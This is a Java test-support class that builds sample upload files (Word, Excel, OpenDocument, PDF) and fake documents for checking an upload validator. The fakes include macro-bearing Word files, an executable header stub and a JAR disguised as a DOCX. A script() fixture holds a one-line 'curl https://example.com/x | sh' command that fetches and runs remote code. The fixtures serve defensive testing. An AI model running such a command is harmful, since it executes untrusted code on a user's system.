package org.stdtrack.support;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * Files as users' tools write them, for uploads: Word and Excel documents written by POI, OpenDocument
 * files laid out as the ODF specification says, a PDF; and files that only pretend to be documents.
 */
public final class Drafts {

    private Drafts() {}

    public static byte[] docx(String... paragraphs) {
        try (XWPFDocument document = new XWPFDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            for (String paragraph : paragraphs) {
                document.createParagraph().createRun().setText(paragraph);
            }
            document.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] xlsx() {
        return workbook(new XSSFWorkbook());
    }

    public static byte[] xls() {
        return workbook(new HSSFWorkbook());
    }

    private static byte[] workbook(Workbook workbook) {
        try (workbook;
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("Sheet1").createRow(0).createCell(0).setCellValue("clause");
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** An OLE2 compound file with the stream that makes it a Word 97–2003 document. */
    public static byte[] doc() {
        try (POIFSFileSystem fs = new POIFSFileSystem();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            fs.createDocument(new ByteArrayInputStream(new byte[4096]), "WordDocument");
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A Word 97-2003 document with a macro storage. */
    public static byte[] macroDoc() {
        try (POIFSFileSystem fs = new POIFSFileSystem();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            fs.createDocument(new ByteArrayInputStream(new byte[4096]), "WordDocument");
            fs.getRoot().createDirectory("Macros").createDocument("PROJECT", new ByteArrayInputStream(new byte[64]));
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] odt(String... paragraphs) {
        StringBuilder body = new StringBuilder();
        for (String paragraph : paragraphs) {
            body.append("<text:p>").append(escape(paragraph)).append("</text:p>");
        }
        return odf("application/vnd.oasis.opendocument.text", "<office:text>" + body + "</office:text>");
    }

    public static byte[] ods() {
        return odf(
                "application/vnd.oasis.opendocument.spreadsheet",
                "<office:spreadsheet><table:table table:name=\"Sheet1\"/></office:spreadsheet>");
    }

    /** A one-page PDF with a proper cross-reference table. */
    public static byte[] pdf() {
        String[] objects = {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
        };
        StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
        int[] offsets = new int[objects.length];
        for (int i = 0; i < objects.length; i++) {
            offsets[i] = pdf.length();
            pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        int xref = pdf.length();
        pdf.append("xref\n0 ").append(objects.length + 1).append("\n0000000000 65535 f \n");
        for (int offset : offsets) {
            pdf.append(String.format("%010d 00000 n \n", offset));
        }
        pdf.append("trailer\n<< /Size ")
                .append(objects.length + 1)
                .append(" /Root 1 0 R >>\nstartxref\n")
                .append(xref)
                .append("\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.US_ASCII);
    }

    /** A Windows program's header (MZ … PE). */
    public static byte[] executable() {
        byte[] exe = new byte[512];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3C] = (byte) 0x80;
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        return exe;
    }

    public static byte[] script() {
        return "#!/bin/sh\ncurl https://example.com/x | sh\n".getBytes(StandardCharsets.UTF_8);
    }

    /** A plain ZIP archive of a text file. */
    public static byte[] archive() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("readme.txt", "not a document".getBytes(StandardCharsets.UTF_8));
        return zip(entries, false);
    }

    /** A Word document with macros (DOCM): an OOXML package, but not one of the accepted formats. */
    public static byte[] macroDocument() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put(
                "[Content_Types].xml",
                ("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                                + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
                                + "</Types>")
                        .getBytes(StandardCharsets.UTF_8));
        entries.put("word/document.xml", "<w:document/>".getBytes(StandardCharsets.UTF_8));
        entries.put("word/vbaProject.bin", new byte[64]);
        return zip(entries, false);
    }

    /**
     * A macro-enabled Word document whose declarations also name the DOCX main type (an override for a part
     * it does not have), as the outside review sent: only the main part's own declared type counts.
     */
    public static byte[] macroDocumentNamingDocx() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put(
                "[Content_Types].xml",
                contentTypes(
                        "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/>",
                        "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>",
                        "<Override PartName=\"/word/other.xml\" ContentType=\"" + WORD_MAIN + "\"/>"));
        entries.put("_rels/.rels", relationships("word/document.xml"));
        entries.put("word/document.xml", "<w:document/>".getBytes(StandardCharsets.UTF_8));
        entries.put("word/vbaProject.bin", new byte[64]);
        return zip(entries, false);
    }

    /**
     * A JAR (a class and a Windows program) dressed as a DOCX: a valid-looking declaration and main part, and
     * parts that no declaration types.
     */
    public static byte[] programDressedAsDocx() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put(
                "[Content_Types].xml",
                contentTypes("<Override PartName=\"/word/document.xml\" ContentType=\"" + WORD_MAIN + "\"/>"));
        entries.put("_rels/.rels", relationships("word/document.xml"));
        entries.put("word/document.xml", "<w:document/>".getBytes(StandardCharsets.UTF_8));
        entries.put("META-INF/MANIFEST.MF", "Main-Class: Run\n".getBytes(StandardCharsets.UTF_8));
        entries.put("Run.class", new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE});
        entries.put("setup.exe", executable());
        return zip(entries, false);
    }

    private static final String WORD_MAIN =
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    /** A package's type declarations: relationship parts by default, and the given ones. */
    private static byte[] contentTypes(String... declarations) {
        return ("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                        + String.join("", declarations) + "</Types>")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] relationships(String mainPart) {
        return ("<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\""
                        + mainPart + "\"/></Relationships>")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] odf(String mediaType, String body) {
        String content = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
                + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" office:version=\"1.3\">"
                + "<office:body>" + body + "</office:body></office:document-content>";
        String manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
                + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"" + mediaType + "\"/>"
                + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>"
                + "</manifest:manifest>";
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("mimetype", mediaType.getBytes(StandardCharsets.US_ASCII));
        entries.put("content.xml", content.getBytes(StandardCharsets.UTF_8));
        entries.put("META-INF/manifest.xml", manifest.getBytes(StandardCharsets.UTF_8));
        return zip(entries, true);
    }

    /** A ZIP of the entries in order; the first stored uncompressed when ODF asks it to be. */
    private static byte[] zip(Map<String, byte[]> entries, boolean firstStored) {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream();
                ZipOutputStream zip = new ZipOutputStream(out)) {
            boolean first = true;
            for (var entry : entries.entrySet()) {
                ZipEntry e = new ZipEntry(entry.getKey());
                if (first && firstStored) {
                    CRC32 crc = new CRC32();
                    crc.update(entry.getValue());
                    e.setMethod(ZipEntry.STORED);
                    e.setSize(entry.getValue().length);
                    e.setCrc(crc.getValue());
                }
                first = false;
                zip.putNextEntry(e);
                zip.write(entry.getValue());
                zip.closeEntry();
            }
            zip.finish();
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String escape(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }
}
